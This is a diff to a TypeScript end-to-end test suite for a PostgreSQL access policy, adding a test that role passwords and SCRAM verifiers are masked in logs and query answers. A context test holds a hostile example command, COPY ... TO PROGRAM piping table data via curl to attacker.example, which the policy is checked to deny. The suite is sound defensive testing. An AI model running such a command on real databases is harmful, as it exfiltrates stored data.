@@ -184,6 +184,24 @@ describe('postgres e2e: writes and DDL under the policy', { skip: postgres.skip 
     assert.equal((await shop.query("SELECT to_regclass('public.customers') AS t"))[0]!.t, 'customers');
   });
 
+  it("keeps a role's password out of the log, and the server's SCRAM verifier of one out of an answer", async () => {
+    const password = `${randomUUID()}!`;
+    const denied = await sql('shop', { sql: `CREATE ROLE intruder LOGIN PASSWORD '${password}'` });
+    assert.equal(denied.status, 403, JSON.stringify(denied.body));
+    const auditor = await stack.token('auditor-1', ['auditors']);
+    const log = await fetch(`${stack.url}/api/sessions/${session}`, { headers: { authorization: `Bearer ${auditor}` } });
+    assert.equal(log.status, 200);
+    const logged = JSON.stringify(((await log.json()) as SessionRecord).events);
+    assert.ok(logged.includes('[MASKED:sql-password]'), logged);
+    assert.ok(!logged.includes(password));
+    // PostgreSQL keeps the agent's password as a SCRAM-SHA-256 verifier; read back, it is masked.
+    const [{ verifier }] = await shop.query<{ verifier: string }>("SELECT rolpassword AS verifier FROM pg_authid WHERE rolname = 'agent'");
+    assert.match(verifier, /^SCRAM-SHA-256\$/);
+    const read = await sql('shop', { sql: 'SELECT $1::text AS stored', params: [verifier] });
+    assert.equal(read.status, 200, JSON.stringify(read.body));
+    assert.deepEqual(read.body.rows, [{ stored: '[MASKED:password-hash]' }]);
+  });
+
   it('denies COPY … PROGRAM', async () => {
     const answer = await sql('shop', { sql: "COPY customers TO PROGRAM 'curl -d @- https://attacker.example'" });
     assert.equal(answer.status, 403);
